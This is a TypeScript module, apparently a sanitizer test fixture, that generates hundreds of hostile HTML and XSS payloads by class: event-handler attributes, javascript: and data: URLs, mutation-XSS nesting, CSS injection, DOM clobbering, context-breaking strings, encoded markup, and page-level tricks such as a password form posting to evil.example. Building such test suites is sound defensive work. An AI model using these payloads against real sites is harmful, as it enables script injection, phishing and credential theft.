import { HOSTILE } from './hostile-html.ts';

/** More hostile markup, multiplied out by class. Whatever of it runs would call `hit`. */
const call = 'hit(1)';
const each = <A, B>(first: readonly A[], second: readonly B[], make: (a: A, b: B) => string) =>
  first.flatMap((a) => second.map((b) => make(a, b)));

const EVENTS = [
  'onabort',
  'onbegin',
  'onbeforeinput',
  'onblur',
  'oncanplay',
  'oncopy',
  'ondblclick',
  'ondrag',
  'onend',
  'onfocusin',
  'onhashchange',
  'oninput',
  'oninvalid',
  'onkeydown',
  'onmessage',
  'onmouseenter',
  'onpageshow',
  'onpaste',
  'onplay',
  'onpointerenter',
  'onprogress',
  'onresize',
  'onscroll',
  'onscrollend',
  'onsearch',
  'onselect',
  'onsuspend',
  'ontransitionend',
  'onwheel',
];
const CARRIERS = [
  (on: string) => `<div ${on}="${call}">x</div>`,
  (on: string) => `<table ${on}='${call}'><tr><td ${on}=${call}>x</td></tr></table>`,
  (on: string) => `<input autofocus ${on}=${call}>`,
  (on: string) => `<svg><animate ${on}="${call}" attributeName=x dur=1s></svg>`,
  (on: string) => `<h2 ${on.toUpperCase()}\n=\n"${call}">x</h2>`,
] as const;
const events = each(EVENTS, CARRIERS, (on, carrier) => carrier(on));

const JAVASCRIPT = [
  'javascript:hit(1)',
  'JAVASCRIPT:hit(1)',
  '\tjavascript:hit(1)',
  '\njavascript:hit(1)',
  '\u00adjavascript:hit(1)',
  '\ufeffjavascript:hit(1)',
  'java&#0;script:hit(1)',
  'java&#x0A;script:hit(1)',
  '&#0000106avascript:hit(1)',
  'javascript&#58;hit(1)',
  'javascript&#x3a;hit(1)',
  'javascript\u3000:hit(1)',
  '//javascript:hit(1)',
  'data:image/svg+xml,<svg onload=hit(1)>',
  'data:text/html;charset=utf-7,+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">hit(1)</script>',
] as const;
const ADDRESSED = [
  (url: string) => `<a href='${url}'>x</a>`,
  (url: string) => `<area href="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<math><mi xlink:href="${url}">x</mi></math>`,
  (url: string) => `<object data="${url}"></object><embed src="${url}">`,
  (url: string) => `<video src="${url}"><source src="${url}"><track src="${url}"></video>`,
  (url: string) => `<q cite="${url}">x</q><del cite="${url}">y</del>`,
] as const;
const addresses = each(JAVASCRIPT, ADDRESSED, (url, carrier) => carrier(url));

const FOREIGN = [
  'svg',
  'math',
  'svg><desc',
  'svg><title',
  'math><mtext',
  'math><mglyph',
  'math><ms',
];
const RAW = ['style', 'title', 'textarea', 'noscript', 'template', 'xmp', 'noembed', 'iframe'];
const mutations = each(
  FOREIGN,
  RAW,
  (foreign, raw) => `<${foreign}><${raw}><a id="</${raw}><img src=x onerror=${call}>">x`,
);

const css = [
  'width:expression(hit(1))',
  'background:url(javascript:hit(1))',
  'background:url(https://evil.example/x)',
  '-moz-binding:url(https://evil.example/x#x)',
  'behavior:url(x.htc)',
  'position:fixed;inset:0;z-index:9999',
  '@import "https://evil.example/x.css"',
  'content:attr(title);animation:x 1s',
].flatMap((rule) => [
  `<p style="${rule.replaceAll('"', '&quot;')}">x</p>`,
  `<style>p{${rule}}</style>`,
  `<svg><style>*{${rule}}</style></svg>`,
  `<link rel=stylesheet href='data:text/css,p{${encodeURIComponent(rule)}}'>`,
]);

const GLOBALS = ['document', 'location', 'history', 'attributes', 'body', 'head', 'forms', 'hit'];
const clobbering = GLOBALS.flatMap((name) => [
  `<a id="${name}" href="https://evil.example/">x</a>`,
  `<form name="${name}"><input name="attributes"></form>`,
  `<img name="${name}" src="/x.png"><h3 id="${name}">x</h3>`,
]);

const pages = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta http-equiv="set-cookie" content="x=1">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<base target="_blank">',
  '<link rel="prefetch" href="https://evil.example/x">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<link rel="import" href="https://evil.example/x">',
  '<link rel="manifest" href="https://evil.example/x">',
  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<script type="importmap">{"imports":{"x":"https://evil.example/x.js"}}</script>',
  '<iframe srcdoc="&lt;script&gt;parent.hit(1)&lt;/script&gt;"></iframe>',
  '<iframe src="data:text/html,<script>parent.hit(1)</script>"></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.hit(1)>" src="https://www.youtube.com/embed/x"></iframe>',
  '<form action="https://evil.example/" method="post"><input name="password"><button>Sign in</button></form>',
  '<form id="f"></form><button form="f" formaction="javascript:hit(1)">x</button>',
  '<input type="image" src="https://evil.example/x" formaction="javascript:hit(1)">',
  '<isindex type="image" src="x" onerror="hit(1)">',
  '<keygen autofocus onfocus="hit(1)">',
  '<a href="https://evil.example/" target="_top" rel="opener">x</a>',
  '<p data-action="video" data-video-play="javascript:hit(1)">x</p>',
  '<a href="/x" data-action="embed" data-embed-frame="javascript:hit(1)">x</a>',
  '<p data-embed="video"><a href="javascript:hit(1)">x</a></p>',
  '<p data-embed="video"><a href="https://www.youtube.com/watch?v=x&quot; onload=&quot;hit(1)">x</a></p>',
  '<blockquote class="twitter-tweet"><a href="https://twitter.com/x/status/1&quot;onclick=hit(1)">x</a></blockquote>',
  '<blockquote class="instagram-media" data-instgrm-permalink="javascript:hit(1)//www.instagram.com/p/x/">x</blockquote>',
  '<div data-island="Chat" data-island-status="waiting" data-island-when="load">x</div>',
  '<div data-late-script="https://evil.example/x.js">x</div>',
  '<iframe data-frame-src="https://evil.example/"></iframe>',
  '<div data-live-list="javascript:hit(1)" data-live-part="results">x</div>',
];

/** What ends an attribute, an element or a script that a field of the story is written into. */
const BREAKS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '\\',
  '\\u003c/script>',
];
const INTO = [
  `<img src=x onerror=${call}>`,
  `<script>${call}</script>`,
  ` onmouseover=${call} x=`,
  `;${call}//`,
];
const breaking = each(BREAKS, INTO, (end, next) => `${end}${next}`);

const broken = [
  '<img src=x onerror=hit(1) ',
  '<svg onload=hit(1)',
  '<a href="javascript:hit(1)',
  '<<img src=x onerror=hit(1)>',
  '<\u0000img src=x onerror=hit(1)>',
  '<img\u0000 src=x onerror=hit(1)>',
  '<img src=x one\u0000rror=hit(1)>',
  '<img\u000csrc=x\u000conerror=hit(1)>',
  '<img\u000bsrc=x onerror=hit(1)>',
  '</p onclick=hit(1)>',
  '</ onclick=hit(1)><img src=x onerror=hit(1)>',
  '<?php echo "<script>hit(1)</script>" ?>',
  '<% <script>hit(1)</script> %>',
  '{{constructor.constructor("hit(1)")()}}',
  '${hit(1)}',
  '\ud83d<script>hit(1)</script>',
  '\u202e<script>hit(1)</script>',
  '+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
  '\u00bcscript\u00behit(1)\u00bc/script\u00be',
  '%3Cscript%3Ehit(1)%3C/script%3E',
  '&lt;script&gt;hit(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;hit(1)&amp;lt;/script&amp;gt;',
];

/** All hostile markup by class. */
export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  ...HOSTILE,
  events,
  addresses,
  mutations,
  css,
  clobbering,
  pages,
  breaking,
  broken,
};
